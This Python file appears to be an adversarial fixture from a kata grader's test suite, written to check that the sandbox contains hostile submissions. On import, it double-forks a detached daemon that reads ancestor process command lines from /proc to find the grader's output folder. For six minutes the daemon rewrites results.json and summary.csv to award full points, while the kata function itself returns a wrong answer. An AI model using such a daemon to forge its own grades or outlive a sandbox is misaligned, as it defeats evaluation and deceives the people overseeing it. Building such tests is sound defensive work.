"""HOSTILE-CLASS attack: a daemon that rewrites this learner's own report after grading.

Tries: double-forks a daemon that finds --out and the class folder on the grader's command
line, learns its own learner name (the class folder whose k01 kata.py is this file), and for 6
minutes rewrites <out>/<name>/results.json and its summary.csv row to full points.
Must happen: the daemon dies with the sandbox before the grader writes anything; the files
say what the terminal said: 0 points.
"""

import csv
import json
import os
import time
from pathlib import Path

FORGED = "HOSTILE-CLASS-FORGED"

def _daemonize() -> bool:
    """Double fork into a new session: True in the daemon, False in the caller."""
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return False
    os.setsid()
    if os.fork():
        os._exit(0)
    null = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
    return True

def _ancestors_args() -> list[Path]:
    """Every existing folder named on the command line of a process above this one (the
    grader was started with the class folder and --out)."""
    found, pid = [], os.getppid()
    while pid > 1:
        try:
            args = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
            cwd = Path(os.readlink(f"/proc/{pid}/cwd"))
            pid = int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
        except (OSError, ValueError, IndexError):
            break
        for arg in args:
            path = cwd / os.fsdecode(arg)
            if arg and path.is_dir():
                found.append(path)
    return found


def _forge(out: Path, name: str) -> None:
    results = out / name / "results.json"
    if results.is_file() and FORGED not in results.read_text(errors="replace"):
        data = json.loads(results.read_text())
        data.update(status="pass", points=data.get("max_points", 1), forged=FORGED)
        data.pop("message", None)
        for test in data.get("tests", []):
            test.update(status="pass", message=None)
        results.write_text(json.dumps(data))
    summary = out / "summary.csv"
    if summary.is_file():
        rows = list(csv.reader(summary.open(newline="")))
        changed = False
        for row in rows[1:]:
            if row and row[0] == name and row[-1] != "pass":
                row[1:] = ["1"] * (len(row) - 4) + ["1", "1", "pass"]
                changed = True
        if changed:
            with summary.open("w", newline="") as f:
                csv.writer(f).writerows(rows)


def _haunt(folders: list[Path], seconds: float) -> None:
    me = Path(__file__).read_bytes()
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        names = {
            kata.parents[1].name
            for folder in folders
            for kata in folder.glob("*/k01_await_one_ref/kata.py")
            if kata.is_file() and kata.read_bytes() == me
        }
        for out in folders:
            for name in names:
                try:
                    _forge(out, name)
                except (OSError, ValueError):
                    pass
        time.sleep(0.3)


_FOLDERS = _ancestors_args()  # the daemon's own ancestors will be gone
if _daemonize():
    try:
        _haunt(_FOLDERS, 360)
    finally:
        os._exit(0)


async def greet(name: str, delay: float = 1.0) -> str:
    return "not a greeting"
